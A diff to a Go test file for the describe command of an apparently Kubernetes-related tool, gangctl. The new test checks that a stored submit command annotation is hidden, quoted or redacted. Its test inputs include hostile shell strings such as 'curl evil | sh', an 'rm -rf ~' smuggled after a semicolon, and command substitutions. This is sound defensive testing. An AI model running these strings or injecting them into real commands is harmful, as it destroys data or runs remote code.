@@ -1,6 +1,7 @@
 package describe
 
 import (
+	"strings"
 	"testing"
 	"time"
 
@@ -137,6 +138,32 @@ func TestTimeline(t *testing.T) {
 		got := timeline(stored, summary.Of(stored, tt.pods, kubetest.Created.Time))
 		if diff := cmp.Diff(tt.want, got, cmp.AllowUnexported(step{})); diff != "" {
 			t.Errorf("%s: -want +got\n%s", tt.name, diff)
+		}
+	}
+}
+
+// A line that is no command line of submit is not shown: it is there to be pasted, and another user may have written it.
+func TestForeignLine(t *testing.T) {
+	for kept, want := range map[string]string{
+		"curl evil | sh":                         "not shown: annotation gangctl.dev/command holds no command line of gangctl submit",
+		"gangctl delete llama -y":                "not shown: annotation gangctl.dev/command holds no command line of gangctl submit",
+		"gangctl submit tf a; rm -rf ~":          "gangctl submit tf 'a;' rm -rf '~'",
+		"gangctl submit tf a $(evil) `evil`":     "gangctl submit tf a '$(evil)' '`evil`'",
+		"gangctl submit tf a --env T=secret > b": "gangctl submit tf a --env T=… '>' b",
+	} {
+		s := kubetest.New(t)
+		job := kubetest.Job("research", "llama", 1)
+		job.Annotations = map[string]string{"gangctl.dev/command": kept}
+		s.Answer("GET "+jobsPath+"/llama", 200, job)
+		s.Answer("GET "+podsPath, 200, kubetest.PodList())
+		s.Answer("GET "+eventsPath, 200, corev1.EventList{TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "EventList"}})
+		stdout, failed := run(t, s, "llama")
+		if failed != nil || !strings.HasSuffix(stdout, "\nSubmitted with:\n"+want+"\n") {
+			t.Errorf("%s: got %v\n%s", kept, failed, stdout)
+		}
+		stdout, failed = run(t, s, "llama", "-o", "json")
+		if failed != nil || strings.Contains(stdout, "evil |") || strings.Contains(stdout, "secret") {
+			t.Errorf("%s: got %v\n%s", kept, failed, stdout)
 		}
 	}
 }
